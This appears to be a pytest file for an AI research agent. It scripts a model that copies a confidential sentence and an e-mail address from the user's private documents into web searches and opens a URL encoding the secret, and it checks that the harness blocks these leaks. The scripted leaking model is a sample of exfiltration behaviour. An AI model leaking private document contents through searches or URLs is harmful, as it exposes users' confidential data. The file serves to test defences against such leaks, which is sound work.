"""Whole runs over private documents and the web, with a model that does what a page orders: copy them into searches."""

from pathlib import Path
from typing import Any

import pytest

from tests.model.harness import served
from tests.runs.running import Ran
from tests.support.scripted_replies import Call, Reply, Request
from tests.support.scripted_researcher import ScriptedResearcher
from tests.web.world import ALPHA, World, research, why

SECRET = "the Helios board has decided to sell the Alpha engine to nobody but Rolf"
LEAKS = (SECRET, "anna.holm@helios.example", "Alpha engine")
ADDRESS = "http://alpha.test/" + SECRET.replace(" ", "-")


class Leaking(ScriptedResearcher):
    """A model that searches the web for what it has read in the documents, and opens an address that holds it."""

    def _research(self, request: Request) -> Reply:
        if SECRET in str([message["tool_calls"] for message in request["messages"]]):
            return super()._research(request)
        searches = [Call("search", {"queries": [said], "source": "searxng"}) for said in LEAKS]
        own = Call("search", {"queries": [SECRET], "source": "documents"})
        return Reply(tool_calls=(own, *searches, Call("open", {"source": ADDRESS, "find": ""})))


def leaking(world: World, home: Path, folder: Path, monkeypatch: pytest.MonkeyPatch, **settings: Any) -> Ran:
    plans = folder / "plans"
    plans.mkdir()
    (plans / "plan.md").write_text(f"# Alpha engine\n\nIn May {SECRET}. Ask anna.holm@helios.example about it.\n")
    world.page("alpha.test", "/engine", "Alpha engine", ALPHA, extra=f'<a href="{ADDRESS}">Alpha engine</a>')
    script = Leaking(sections={"Alpha engine": ["Alpha engine"]}, sentences=2, at_once=(1,))
    asked = "What is known about the Alpha engine?"
    model = {"model_provider": "compatible", "model_name": "scripted"}
    with served(monkeypatch, script):
        return research(world.web, asked, home=home, docs=[plans], **model, **settings)


def asked_of(world: World) -> list[str]:
    return [request.query["q"][0] for request in world.web.requests if request.query.get("q")]


def test_what_a_document_says_is_not_searched(
    world: World, own_state: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ran = leaking(world, own_state, tmp_path, monkeypatch)
    assert "Alpha engine" in asked_of(world)
    assert not any("Helios board" in said or "@" in said for said in asked_of(world))
    told = {(query.place, query.query): query.held_back for query in ran.report.queries}
    assert told["searxng", SECRET] == "words"
    assert told["searxng", LEAKS[1]] == "value"
    assert told["searxng", "Alpha engine"] == ""
    assert ("documents", SECRET) not in told
    assert told["pages", ADDRESS] == "words"
    assert not any("Helios" in request.target for request in world.web.requests)
    assert {query for (place, query), held in told.items() if place == "searxng" and not held} == set(asked_of(world))
    assert "it repeats eight words or more of your documents" in why(ran)
    assert "an e-mail address, a key or a long number of your documents" in why(ran)
